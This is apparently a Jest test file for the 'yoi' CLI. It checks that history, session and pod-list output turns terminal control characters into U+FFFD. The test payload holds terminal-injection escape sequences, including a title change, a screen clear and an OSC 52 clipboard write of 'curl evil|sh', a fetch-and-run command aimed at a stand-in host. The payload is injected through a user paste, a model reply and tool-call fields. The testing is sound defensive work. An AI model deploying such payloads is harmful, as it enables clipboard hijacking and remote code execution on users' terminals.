import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { hasScript, onTerminal } from '../support/onTerminal.js';
import { startPodProcess, yoi } from '../support/runCli.js';
import { makeProject } from '../support/startTestPod.js';

/**
 * `yoi history` of a real pod whose history holds escape sequences (a user's paste, the model's
 * reply, a tool call's name and arguments, its result): on a terminal none of them drives it.
 */

const OSC52 = `\u001b]52;c;${Buffer.from('curl evil|sh').toString('base64')}\u0007`;
const EVIL = `\u001b]0;PWNED\u0007\u001b[2J${OSC52}\rOVER\u009b31m`;
/** Control characters a terminal acts on; the pty itself turns each newline into CRLF. */
const CONTROLS = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]|\r(?!\n)/;

let dir: string;
let env: Record<string, string>;
let pod: ChildProcess | undefined;

beforeAll(async () => {
  dir = makeProject({
    's.json': JSON.stringify([
      { text: `reply ${EVIL}`, tool_calls: [{ name: `Bash${EVIL}`, arguments: { command: `x\u009b31m ${EVIL}` } }] },
      { text: 'done' },
    ]),
    'yoi.config.json': JSON.stringify({ model: { provider: 'scripted', script: 's.json' } }),
  });
  env = { YOI_RUNTIME_DIR: path.join(dir, 'run') };
  pod = (await startPodProcess([], { cwd: dir, env })).child;
  expect(yoi(['send', '--quiet'], { cwd: dir, env, input: `paste ${EVIL}` }).status).toBe(0);
}, 30_000);
afterAll(() => {
  pod?.kill('SIGKILL');
});

describe('yoi history', () => {
  it('piped: the text exactly as the pod holds it', () => {
    const r = yoi(['history'], { cwd: dir, env });
    expect(r.status).toBe(0);
    expect(r.stdout).toContain(`user: paste ${EVIL}\n`);
    expect(r.stdout).toContain(`tool call Bash${EVIL} {"command":"x\u009b31m `);
  });

  (hasScript ? it : it.skip)('on a terminal: every control character from the pod is U+FFFD', async () => {
    const shown = await onTerminal(['history'], { cwd: dir, env });
    const defused = '\ufffd]0;PWNED\ufffd\ufffd[2J\ufffd]52;c;Y3VybCBldmlsfHNo\ufffd\ufffdOVER\ufffd31m';
    expect(shown).toContain(`user: paste ${defused}\r\n`);
    expect(shown).toContain(`assistant: reply ${defused}\r\n`);
    expect(shown).toContain(`tool call Bash${defused} {"command":"x\ufffd31m \\u001b]0;PWNED`);
    expect(shown).toContain(`tool result (error): Tool 'Bash${defused}' not found\r\n`);
    expect(shown).not.toMatch(CONTROLS);
  });

  (hasScript ? it : it.skip)('--json on a terminal: C1 and DEL escaped too, the same JSON as piped', async () => {
    const piped = yoi(['history', '--json'], { cwd: dir, env }).stdout;
    expect(piped).toContain('\u009b'); // JSON.stringify leaves C1 as it is
    const shown = await onTerminal(['history', '--json'], { cwd: dir, env });
    expect(shown).not.toMatch(CONTROLS);
    expect(shown).toContain('\\u009b31m');
    expect(JSON.parse(shown.replaceAll('\r\n', '\n'))).toEqual(JSON.parse(piped));
  });
});

describe('other commands printing what pods and their logs hold', () => {
  (hasScript ? it : it.skip)("yoi sessions show on a terminal: the session log's text defused", async () => {
    const [session] = JSON.parse(yoi(['sessions', '--json'], { cwd: dir, env }).stdout) as { id: string }[];
    const piped = yoi(['sessions', 'show', session.id], { cwd: dir, env });
    expect(piped.stdout).toContain(`user: paste ${EVIL}\n`);
    const shown = await onTerminal(['sessions', 'show', session.id], { cwd: dir, env });
    expect(shown).toContain('user: paste \ufffd]0;PWNED');
    expect(shown).not.toMatch(CONTROLS);
  });

  (hasScript ? it : it.skip)('yoi sessions show --json on a terminal: C1 escaped, the same JSON as piped', async () => {
    const [session] = JSON.parse(yoi(['sessions', '--json'], { cwd: dir, env }).stdout) as { id: string }[];
    const piped = yoi(['sessions', 'show', session.id, '--json'], { cwd: dir, env }).stdout;
    expect(piped).toContain('\u009b');
    const shown = await onTerminal(['sessions', 'show', session.id, '--json'], { cwd: dir, env });
    expect(shown).not.toMatch(CONTROLS);
    expect(shown).toContain('\\u009b31m');
    expect(JSON.parse(shown.replaceAll('\r\n', '\n'))).toEqual(JSON.parse(piped));
  });

  (hasScript ? it : it.skip)('yoi pod list on a terminal: a runtime directory named with escapes defused', async () => {
    const evil = path.join(env.YOI_RUNTIME_DIR, 'evil\u001b]0;PWNED\u0007\u001b[2J');
    fs.mkdirSync(evil, { mode: 0o700 });
    fs.writeFileSync(path.join(evil, 'status.json'), '{}', { mode: 0o600 });
    try {
      expect(yoi(['pod', 'list'], { cwd: dir, env }).stdout).toContain('evil\u001b]0;PWNED');
      const shown = await onTerminal(['pod', 'list'], { cwd: dir, env });
      expect(shown).toContain('evil\ufffd]0;PWNED\ufffd\ufffd[2J');
      expect(shown).not.toMatch(CONTROLS);
    } finally {
      fs.rmSync(evil, { recursive: true, force: true });
    }
  });
});
